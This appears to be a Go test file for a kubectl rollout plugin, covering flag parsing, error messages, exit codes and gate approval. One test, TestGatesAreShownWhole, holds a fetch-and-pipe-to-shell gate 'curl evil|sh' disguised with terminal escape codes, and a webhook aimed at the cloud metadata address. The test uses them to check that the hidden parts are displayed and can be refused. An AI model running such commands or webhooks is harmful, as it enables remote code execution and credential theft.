package cli

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/spf13/cobra"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/kubectl-msa/kubectl-msa/pkg/lang"
	"github.com/kubectl-msa/kubectl-msa/pkg/render"
	"github.com/kubectl-msa/kubectl-msa/pkg/rollout"
	"github.com/kubectl-msa/kubectl-msa/pkg/rollout/gate"
	"github.com/kubectl-msa/kubectl-msa/pkg/rollout/journal"
	"github.com/kubectl-msa/kubectl-msa/pkg/rollout/plan"
	"github.com/kubectl-msa/kubectl-msa/pkg/snapshot/live"
)

// under puts commands below a root with the global flags, as they are in the tool.
func under(a *app, cmds ...*cobra.Command) *cobra.Command {
	root := &cobra.Command{Use: "kubectl-msa", SilenceErrors: true, SilenceUsage: true}
	a.global.add(root.PersistentFlags())
	root.SetFlagErrorFunc(flagError)
	root.AddCommand(cmds...)
	return root
}

// parseStart runs the command line of plan, canary or bluegreen up to the point where it would run.
func parseStart(t *testing.T, stdin string, args ...string) (startOptions, error) {
	t.Helper()
	a := newApp(t, lang.English)
	a.Streams.In = strings.NewReader(stdin)
	var got startOptions
	runF := func(_ context.Context, o startOptions) error { got = o; return nil }
	root := under(a, newRolloutStart(a, startPlan, runF), newRolloutStart(a, startCanary, runF), newRolloutStart(a, startBlueGreen, runF))
	root.SetArgs(args)
	err := root.ExecuteContext(t.Context())
	return got, err
}

const planInGit = `apiVersion: kubectl-msa.dev/v1alpha1
kind: Rollout
metadata: {name: web}
spec:
  workload: {kind: deploy, namespace: shop, name: web}
  strategy: canary
  change: {images: {app: "shop/web:v2", side: "shop/side:v1"}}
  steps:
  - {weight: 10, pause: {for: 1m}}
  - {weight: 100}
  gates: [{kind: time, value: 30s}]
  onFail: hold
  timeout: 5m
`

const twoManifests = `apiVersion: v1
kind: Service
metadata: {name: web}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec: {template: {spec: {containers: [{name: app, image: "shop/web:v2"}]}}}
---
---
apiVersion: v1
kind: List
items:
- {apiVersion: apps/v1, kind: StatefulSet, metadata: {name: db}}
`

func TestRolloutStartFlagsToOptions(t *testing.T) {
	web := rollout.Ref{Kind: "Deployment", Name: "web"}
	image := rollout.Edit{Images: map[string]string{"app": "shop/web:v2"}}
	canary := func(change func(*startOptions)) startOptions {
		o := startOptions{spec: rollout.Spec{Workload: web, Edit: image, Strategy: rollout.Canary, OnFail: rollout.Rollback}, report: outputValue{format: render.Table}}
		change(&o)
		return o
	}
	steps := func(weights ...rollout.Weight) (all []rollout.Step) {
		for _, w := range weights {
			all = append(all, rollout.Step{Weight: w})
		}
		return all
	}
	for _, c := range []struct {
		name  string
		args  string
		stdin string
		want  startOptions
	}{
		{"least", "canary deploy/web --image app=shop/web:v2", "", canary(func(*startOptions) {})},
		{"type and name", "canary deployment web --image app=shop/web:v2 -n shop", "", canary(func(o *startOptions) { o.spec.Workload.Namespace = "shop" })},
		{"steps and pause", "canary deploy/web --image app=shop/web:v2 --steps 5,25%,100 --pause 2m", "", canary(func(o *startOptions) {
			o.spec.Steps = steps(5, 25, 100)
			o.spec.Steps[0].Pause.For, o.spec.Steps[1].Pause.For = rollout.Duration(2*time.Minute), rollout.Duration(2*time.Minute)
		})},
		{"pause alone", "canary deploy/web --image app=shop/web:v2 --pause manual", "", canary(func(o *startOptions) {
			o.spec.Steps = plan.DefaultSteps(rollout.Canary, rollout.Pause{Manual: true})
		})},
		{"everything", "canary deploy/web --image app=shop/web:v2 --image app=shop/web:v2 --gate time=1m --gate person --on-fail hold --timeout 90s " +
			"--via ratio --service web --service api --max-surge 3 --max-restarts 2 --dry-run --exit-on pause -o json", "", canary(func(o *startOptions) {
			o.spec.Gates = []rollout.GateSpec{{Kind: rollout.GateTime, Value: "1m"}, {Kind: rollout.GatePerson}}
			o.spec.OnFail, o.spec.Timeout, o.spec.Via = rollout.HoldOnFail, rollout.Duration(90*time.Second), rollout.ViaRatio
			o.spec.Services, o.spec.MaxSurge, o.spec.MaxRestarts = []string{"web", "api"}, 3, 2
			o.planOnly, o.exitOnPause, o.events, o.report.format = true, true, true, render.JSON
		})},
		{"variables", "canary deploy/web --set-env A=1 --set-env side:B= --set-env OLD- --set-env A.b:C=x:y=z", "", canary(func(o *startOptions) {
			o.spec.Edit = rollout.Edit{Env: []rollout.EnvEdit{
				{Name: "A", Value: "1"}, {Container: "side", Name: "B"}, {Name: "OLD", Remove: true}, {Name: "A.b:C", Value: "x:y=z"},
			}}
		})},
		{"patch in YAML", "canary deploy/web --patch {spec:\u00a0{template:\u00a0{metadata:\u00a0{annotations:\u00a0{a:\u00a0b}}}}}", "", canary(func(o *startOptions) {
			o.spec.Edit = rollout.Edit{Patch: json.RawMessage(`{"spec":{"template":{"metadata":{"annotations":{"a":"b"}}}}}`)}
		})},
		{"blue-green", "bluegreen deploy/web --image app=shop/web:v2 --preview next --keep 10m --pause manual", "", canary(func(o *startOptions) {
			o.spec.Strategy, o.spec.Preview, o.spec.Keep = rollout.BlueGreen, "next", rollout.Duration(10*time.Minute)
			o.spec.Steps = []rollout.Step{{Pause: rollout.Pause{Manual: true}}, {Weight: 100}}
		})},
		{"plan", "plan deploy/web --image app=shop/web:v2 --strategy bluegreen -o wide", "", canary(func(o *startOptions) {
			o.spec.Strategy, o.planOnly, o.report.format = rollout.BlueGreen, true, render.Wide
		})},
		{"a plan in git, flags before it", "canary -f - --image app=shop/web:v3 --timeout 1m --gate person", planInGit, canary(func(o *startOptions) {
			o.spec.Workload.Namespace = "shop"
			o.spec.Edit.Images = map[string]string{"app": "shop/web:v3", "side": "shop/side:v1"}
			o.spec.Steps = steps(10, 100)
			o.spec.Steps[0].Pause.For = rollout.Duration(time.Minute)
			o.spec.Gates = []rollout.GateSpec{{Kind: rollout.GateTime, Value: "30s"}, {Kind: rollout.GatePerson}}
			o.spec.OnFail, o.spec.Timeout = rollout.HoldOnFail, rollout.Duration(time.Minute)
		})},
		{"a manifest among others", "canary deploy/web -f -", twoManifests, canary(func(o *startOptions) {
			o.spec.Workload.Namespace = "shop"
			o.spec.Edit = rollout.Edit{Manifest: json.RawMessage(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"shop"},"spec":{"template":{"spec":{"containers":[{"image":"shop/web:v2","name":"app"}]}}}}`)}
		})},
	} {
		got, err := parseStart(t, c.stdin, words(c.args)...)
		if err != nil {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if diff := cmp.Diff(c.want, got, cmp.AllowUnexported(startOptions{}, outputValue{}), cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("%s: %s", c.name, diff)
		}
	}
}

// words splits a command line; a no-break space stands for one inside a word.
func words(line string) []string {
	all := strings.Split(line, " ")
	for i := range all {
		all[i] = strings.ReplaceAll(all[i], "\u00a0", " ")
	}
	return all
}

func TestRolloutStartRefuses(t *testing.T) {
	misspelt := strings.Replace(planInGit, "gates:", "gate:", 1)
	for _, c := range []struct{ args, stdin, says string }{
		{"canary", "", "TYPE/NAME"},
		{"canary deploy", "", "name is missing"},
		{"canary deplomyent/web --image a=b", "", "did you mean deployment"},
		{"canary web --image a=b", "", "as TYPE/NAME: kubectl-msa canary deployment/web"},
		{"canary pod/web --image a=b", "", "cannot hold two versions"},
		{"canary deploy/a deploy/b --image a=b", "", "one workload"},
		{"canary deploy/web", "", "say what changes"},
		{"canary deploy/web --image app", "", "not CONTAINER=IMAGE"},
		{"canary deploy/web --image app=", "", "not CONTAINER=IMAGE"},
		{"canary deploy/web --image =v2", "", "not CONTAINER=IMAGE"},
		{"canary deploy/web --image App=v2", "", "cannot be the name of a container"},
		{"canary deploy/web --image app=v2 --image app=v3", "", "two images, v2 and v3"},
		{"canary deploy/web --set-env A", "", "nor NAME- to remove"},
		{"canary deploy/web --set-env =x", "", "NAME=VALUE"},
		{"canary deploy/web --set-env A=1 --set-env A-", "", "two things about A"},
		{"canary deploy/web --patch [1]", "", "not an object"},
		{"canary deploy/web --patch {", "", "--patch is not"},
		{"canary deploy/web --image a=b --steps 101", "", `"101" is no share`},
		{"canary deploy/web --image a=b --steps 101%", "", `"101%" is no share`},
		{"canary deploy/web --image a=b --steps 0,5", "", `"0" is no share`},
		{"canary deploy/web --image a=b --steps 5,,10", "", "is no share"},
		{"canary deploy/web --image a=b --steps NaN", "", "is no share"},
		{"canary deploy/web --image a=b --steps 5,50,25", "", "25 follows 50"},
		{"canary deploy/web --image a=b --steps 5,5", "", "5 follows 5"},
		{"canary deploy/web --image a=b --pause soon", "", "neither a time"},
		{"canary deploy/web --image a=b --pause -1m", "", "neither a time"},
		{"canary deploy/web --image a=b --on-fail rolback", "", "use one of rollback, hold"},
		{"canary deploy/web --image a=b --via istio", "", "use one of ratio, service"},
		{"canary deploy/web --image a=b --timeout 0", "", "--timeout 0s: give a time above 0"},
		{"canary deploy/web --image a=b --timeout soon", "", "give a time such as"},
		{"canary deploy/web --image a=b --max-surge 0", "", "at least 1"},
		{"canary deploy/web --image a=b --max-restarts -1", "", "give 0 or more"},
		{"canary deploy/web --image a=b --preview x", "", "--preview has no meaning for canary"},
		{"plan deploy/web --image a=b --keep 1m", "", "--keep has no meaning for canary"},
		{"bluegreen deploy/web --image a=b --steps 5,100", "", "--steps has no meaning for bluegreen"},
		{"bluegreen deploy/web --image a=b --keep -1s", "", "above 0"},
		{"canary deploy/web --image a=b -n UPPER", "", "cannot be the name of a namespace"},
		{"canary deploy/web --image a=b --exit-on error", "", "use one of end, pause"},
		{"canary deploy/web --image a=b -o yaml", "", "use one of table, json"},
		{"canary deploy/web --imgae a=b", "", "did you mean --image"},
		{"canary -f a -f b", "", "one file at a time"},
		{"canary -f", "", "needs a value"},
		{"canary -f /nonexistent/x", "", "no such file"},
		{"canary -f -", "", "holds no Deployment"},
		{"canary -f -", "{", "-f -:"},
		{"canary -f -", "[]", "not a Kubernetes object"},
		{"canary -f -", misspelt, `unknown field "gate"`},
		{"canary -f -", strings.Replace(planInGit, "5m", "five", 1), `"five" is not a duration`},
		{"canary -f -", strings.Replace(planInGit, "{weight: 100}", "100", 1), "-f -: spec.steps cannot be a number: it takes a map of fields"},
		{"canary -f -", strings.Replace(planInGit, "{for: 1m}", "1m", 1), "-f -: spec.steps.pause cannot be a text: it takes a map of fields"},
		{"canary -f -", strings.Replace(planInGit, "weight: 10,", "weight: 10%,", 1), "-f -: spec.steps.weight cannot be a text: it takes a number"},
		{"canary -f -", strings.Replace(planInGit, "value: 30s", "value: soon", 1), `-f -: "soon" is not a length of time`},
		{"canary -f -", strings.Replace(planInGit, "value: 30s", "value: ''", 1), "-f -: the gate time needs a value"},
		{"canary -f -", strings.Replace(planInGit, "kind: time", "kind: tmie", 1), `-f -: there is no gate "tmie"`},
		{"canary -f -", strings.Replace(planInGit, "kind: time", "kind: restarts", 1), "-f -: the gate restarts is asked at every step anyway"},
		{"canary -f -", strings.Replace(planInGit, "pause: {for: 1m}", "gates: [{kind: webhook, value: 'https://kim:secret@host/'}]", 1), "-f -: the address of the web hook holds a name or a password"},
		{"canary -f -", strings.Replace(planInGit, "kind: deploy,", "kind: pod,", 1), "cannot hold two versions"},
		{"canary -f -", strings.Replace(planInGit, "  workload: {kind: deploy, namespace: shop, name: web}\n", "", 1), "names no workload"},
		{"canary -f -", planInGit + "---\n" + planInGit, "holds 2 plans"},
		{"canary deploy/api -f -", planInGit, "a plan for deployment/web, not for deployment/api"},
		{"bluegreen -f -", planInGit, "a plan for canary, and bluegreen"},
		{"canary -f - -n pay", planInGit, "is for namespace shop, and -n says pay"},
		{"canary -f -", twoManifests, "several workloads"},
		{"canary deploy/api -f -", twoManifests, "neither deployment/api nor a plan"},
	} {
		_, err := parseStart(t, c.stdin, words(c.args)...)
		code, line := told(t, err)
		if code != exitUsage || !strings.Contains(line, c.says) {
			t.Errorf("%s: exit %d, %q; want 2 and %q", c.args, code, line, c.says)
		}
		if strings.Count(line, "\n") != 1 {
			t.Errorf("%s: not one line: %q", c.args, line)
		}
	}
}

// told is what the user gets to see of an error.
func told(t *testing.T, err error) (int, string) {
	t.Helper()
	a := newApp(t, lang.English)
	var errs strings.Builder
	a.Streams.Err = &errs
	return a.exit(err), errs.String()
}

func TestRolloutGateErrorIsUsage(t *testing.T) {
	for _, typed := range []string{"tme=2m", "time=soon", "command=", "webhook=ftp://x", "ready"} {
		_, err := parseStart(t, "", "canary", "deploy/web", "--image", "a=b", "--gate", typed)
		var bad *gate.SpecError
		if code, line := told(t, err); code != exitUsage || !errors.As(err, &bad) || !strings.HasPrefix(line, "error: --gate: ") {
			t.Errorf("%s: %d %q", typed, code, line)
		}
	}
}

func TestRolloutFileFromDisk(t *testing.T) {
	file := filepath.Join(t.TempDir(), "plan.yaml")
	if err := os.WriteFile(file, []byte(planInGit), 0o644); err != nil {
		t.Fatal(err)
	}
	o, err := parseStart(t, "", "plan", "-f", file)
	if err != nil || o.spec.Workload != (rollout.Ref{Kind: "Deployment", Namespace: "shop", Name: "web"}) {
		t.Errorf("%+v, %v", o.spec.Workload, err)
	}
}

func TestRolloutAskFlags(t *testing.T) {
	web := rollout.Ref{Kind: "Deployment", Name: "web"}
	for _, c := range []struct {
		args string
		want askOptions
	}{
		{"promote deploy/web", askOptions{workload: web, do: rollout.AskPromote}},
		{"promote deploy/web --full --exit-on pause", askOptions{workload: web, do: rollout.AskFull, exitOnPause: true}},
		{"pause deploy web", askOptions{workload: web, do: rollout.AskPause}},
		{"resume deploy/web --force-conflicts --allow-gates -o json", askOptions{workload: web, do: rollout.AskResume, force: true, gates: true, events: true}},
		{"abort deploy/web --force-conflicts --timeout 1m", askOptions{workload: web, do: rollout.AskAbort, force: true, timeout: true}},
		{"undo deploy/web --to-revision 3", askOptions{workload: web, do: rollout.AskAbort, revision: 3}},
	} {
		a := newApp(t, lang.English)
		var got askOptions
		runF := func(_ context.Context, o askOptions) error { got = o; return nil }
		root := under(a, newRolloutPromote(a, runF), newRolloutPause(a, runF), newRolloutResume(a, runF), newRolloutAbort(a, runF), newRolloutUndo(a, runF))
		root.SetArgs(words(c.args))
		if err := root.ExecuteContext(t.Context()); err != nil {
			t.Errorf("%s: %v", c.args, err)
		}
		if diff := cmp.Diff(c.want, got, cmp.AllowUnexported(askOptions{})); diff != "" {
			t.Errorf("%s: %s", c.args, diff)
		}
	}
}

func TestRolloutErrorsToExitCodes(t *testing.T) {
	web := rollout.Ref{Kind: "Deployment", Namespace: "shop", Name: "web"}
	at := time.Date(2026, 11, 21, 9, 30, 0, 0, time.UTC)
	for _, c := range []struct {
		err  error
		code int
		says string
	}{
		{&rollout.DriftError{Object: web, Path: "/spec/template", Manager: "helm", At: at}, 8, `/spec/template of deployment/web was changed by "helm" at 2026-11-21T09:30:00Z`},
		{&rollout.DriftError{Object: web, Gone: true}, 8, `was deleted or made anew; the rollout stands where it was and writes nothing more: go back with "kubectl msa rollout abort"`},
		{&rollout.LostError{Holder: "bob@ci", Since: at}, 8, "bob@ci leads this rollout"},
		{&rollout.ConflictError{Object: web, Message: "it is marked"}, 8, "deployment/web: it is marked"},
		{&rollout.IncompleteError{Message: "0 of 3"}, 6, "going back is not complete: 0 of 3"},
		{&plan.Error{Problem: plan.ProblemNotFound, Args: map[string]any{"workload": "deployment/web", "namespace": "shop"}}, 1, "was not found in namespace shop"},
		{&plan.Error{Problem: plan.ProblemRising, Args: map[string]any{"weight": "5", "before": "5"}}, 2, "does not rise"},
		{&rollout.EditError{Problem: rollout.EditNoContainer, What: "ap", Near: "app", Known: []string{"app"}}, 2, `did you mean "app"`},
		{fmt.Errorf("save: %w", &rollout.UnwritableError{Err: errors.New("the namespace is being terminated")}), 1, "cannot be written down any more: the namespace is being terminated; it stands where it was, and this driver does nothing more: clear the reason"},
		{&rollout.RefusedError{Object: web, Message: "denied"}, 3, "the API server refuses deployment/web: denied; clear the reason, then try again"},
	} {
		if code, line := told(t, c.err); code != c.code || !strings.Contains(line, c.says) || strings.Count(line, "\n") != 1 {
			t.Errorf("%v: exit %d, %q", c.err, code, line)
		}
	}
}

func TestEndings(t *testing.T) {
	for _, c := range []struct {
		r    result
		back bool
		want render.Ending
		code int
	}{
		{result{outcome: rollout.OutcomePromoted}, false, render.EndPromoted, 0},
		{result{outcome: rollout.OutcomeAborted}, false, render.EndAborted, 5},
		{result{outcome: rollout.OutcomeAborted}, true, render.EndAborted, 0},
		{result{outcome: rollout.OutcomePaused}, false, render.EndPaused, 7},
		{result{outcome: rollout.OutcomeInterrupted}, true, render.EndInterrupted, 130},
		{result{err: &rollout.IncompleteError{}}, true, render.EndIncomplete, 6},
	} {
		if ending, code := endingOf(c.r, c.back); ending != c.want || code != c.code {
			t.Errorf("%+v: %s %d", c, ending, code)
		}
	}
}

func TestChoiceAfterInterrupt(t *testing.T) {
	for typed, want := range map[string]choice{
		"": chooseHold, "h": chooseHold, "hold": chooseHold, "x": chooseHold, "abortion": chooseHold,
		"a": chooseAbort, "A": chooseAbort, "abort": chooseAbort, "c": chooseContinue, "cont": chooseContinue,
	} {
		if got := choose(typed); got != want {
			t.Errorf("%q: %s", typed, got)
		}
	}
}

// Where the Lease may not be read, nobody is said to drive, and nobody is said not to.
func TestWhoDrivesMayBeUnknown(t *testing.T) {
	state := &rollout.State{Phase: rollout.Shifting}
	for _, c := range []struct {
		record                             record
		leads, left, abandoned, notChecked bool
	}{
		{record{journal.Record{Life: journal.Live, Driver: "ann", State: state}}, true, false, false, false},
		{record{journal.Record{Life: journal.Left, Driver: "ann", State: state}}, false, true, true, false},
		{record{journal.Record{Life: journal.Abandoned, Driver: "ann", State: state}}, false, true, true, false},
		{record{journal.Record{Life: journal.Unknown, Driver: "ann", State: state, Unread: errors.New("forbidden")}}, false, false, false, true},
		{record{journal.Record{Life: journal.Abandoned, Driver: "ann", State: state, Unread: errors.New("forbidden")}}, false, true, true, false},
	} {
		v := c.record.view(nil, rollout.Event{})
		if c.record.leads() != c.leads || c.record.left() != c.left || v.Abandoned != c.abandoned || (v.Driver == nil) != c.notChecked ||
			(len(c.record.notChecked()) > 0) != c.notChecked || !c.record.underWay() {
			t.Errorf("%s: %+v, %+v", c.record.Life, v.Driver, c.record.notChecked())
		}
	}
}

// What is asked about a command shows all of it: whoever may write the journal
// must not be able to hide a part of what is agreed to.
func TestGatesAreShownWhole(t *testing.T) {
	a := newApp(t, lang.English)
	var errs strings.Builder
	a.Streams.In, a.Streams.Err, a.Streams.InTTY, a.Streams.ErrTTY = strings.NewReader("n\n"), &errs, true, true
	evil := rollout.GateSpec{Kind: rollout.GateCommand, Value: "curl evil|sh;\x1b[2K\r./smoke.sh\n\n"}
	hook := rollout.GateSpec{Kind: rollout.GateWebhook, Value: "http://169.254.169.254/"}
	spec := rollout.Spec{Gates: []rollout.GateSpec{evil, {Kind: rollout.GateCommand, Value: "./확인.sh"}, {Kind: rollout.GateTime, Value: "2m"}},
		Steps: []rollout.Step{{Gates: []rollout.GateSpec{hook}}}}
	may, err := a.agreeToGates(spec, askOptions{do: rollout.AskResume})
	if err != nil || may(evil) || may(hook) {
		t.Errorf("refused and yet allowed: %v", err)
	}
	if got := errs.String(); strings.ContainsAny(got, "\x1b\r\n") || !strings.Contains(got, `"curl evil|sh;\x1b[2K\r./smoke.sh\n\n"`) || !strings.Contains(got, "./확인.sh") || !strings.Contains(got, `webhook="http://169.254.169.254/"`) || strings.Contains(got, "2m") {
		t.Errorf("asked %q", got)
	}
	a.Streams.In = strings.NewReader("y\n")
	if may, err = a.agreeToGates(spec, askOptions{do: rollout.AskResume}); err != nil || !may(evil) || !may(hook) || may(rollout.GateSpec{Kind: rollout.GateCommand, Value: "other"}) {
		t.Errorf("agreed to, and not allowed: %v", err)
	}
	if may, err = a.agreeToGates(spec, askOptions{do: rollout.AskAbort}); err != nil || may(hook) {
		t.Errorf("no gate is asked on the way back: %v", err)
	}
	a.Streams.InTTY = false
	spec.Gates = nil
	if _, err = a.agreeToGates(spec, askOptions{do: rollout.AskPromote}); err == nil {
		t.Error("a web hook from the cluster was taken without anybody to ask")
	}
}

func TestWatchWritesTextOrJSON(t *testing.T) {
	for args, refused := range map[string]bool{
		"status deploy/web -w -o yaml": true, "status deploy/web -w -o jsonpath={.a}": true, "status deploy/web -o yaml": false,
		"status deploy/web -w -o json": false, "status deploy/web -w": false,
	} {
		a := newApp(t, lang.English)
		root := under(a, newRolloutStatus(a, func(context.Context, statusOptions) error { return nil }))
		root.SetArgs(words(args))
		err := root.ExecuteContext(t.Context())
		if code, line := told(t, err); refused != (err != nil) || refused && (code != exitUsage || !strings.Contains(line, "--watch tells")) {
			t.Errorf("%s: %v, %q", args, err, line)
		}
	}
}

// Resume does not end a pause that was planned: whoever asks is told what does.
func TestWhatIsToldOfAWish(t *testing.T) {
	a := newApp(t, lang.English)
	at := time.Date(2026, 11, 22, 6, 0, 0, 0, time.UTC)
	step := rollout.Step{Weight: 100, Pause: rollout.Pause{For: rollout.Duration(time.Minute)}}
	ref := rollout.Ref{Kind: "Deployment", Namespace: "shop", Name: "web"}
	for _, c := range []struct {
		do      rollout.Ask
		waiting rollout.Waiting
		says    string
	}{
		{rollout.AskResume, rollout.WaitingPerson, `waits as it was planned; pass the pause with "kubectl msa rollout promote deployment/web -n shop"`},
		{rollout.AskResume, rollout.WaitingTime, "waits as it was planned, until 2026-11-22T06:01:00Z; pass"},
		{rollout.AskResume, rollout.WaitingFailed, "was told to go on"},
		{rollout.AskPromote, rollout.WaitingPerson, "was told to go on"},
	} {
		r := &record{journal.Record{Ref: ref, Driver: "ann", State: &rollout.State{Phase: rollout.Paused, Waiting: c.waiting, Since: at, Spec: rollout.Spec{Steps: []rollout.Step{step}}}}}
		if got := a.told(r, c.do); !strings.Contains(got, c.says) {
			t.Errorf("%s while waiting for %s: %q", c.do, c.waiting, got)
		}
	}
}

// Whoever watches outlives a restart of the API server, and is not kept by what will not change.
func TestWatchingIsPatient(t *testing.T) {
	gone := &live.UnreachableError{Host: "h", Trouble: live.Refused, Err: errors.New("connection refused")}
	for name, c := range map[string]struct {
		err      error
		failures int
		tries    int
		ok       bool
	}{
		"no answer, then one":      {fmt.Errorf("read: %w", gone), 3, 4, true},
		"no answer for ever":       {gone, 1000, followTries, false},
		"a server that starts":     {apierrors.NewServiceUnavailable("starting"), 2, 3, true},
		"forbidden":                {apierrors.NewForbidden(schema.GroupResource{Resource: "pods"}, "", nil), 5, 1, false},
		"credentials not accepted": {&live.UnreachableError{Trouble: live.Unauthorized}, 5, 1, false},
		"no failure":               {nil, 0, 1, true},
	} {
		tries := 0
		err := patiently(t.Context(), time.Microsecond, func() error {
			if tries++; tries <= c.failures {
				return c.err
			}
			return nil
		})
		if tries != c.tries || (err == nil) != c.ok {
			t.Errorf("%s: %d tries, %v", name, tries, err)
		}
	}
}
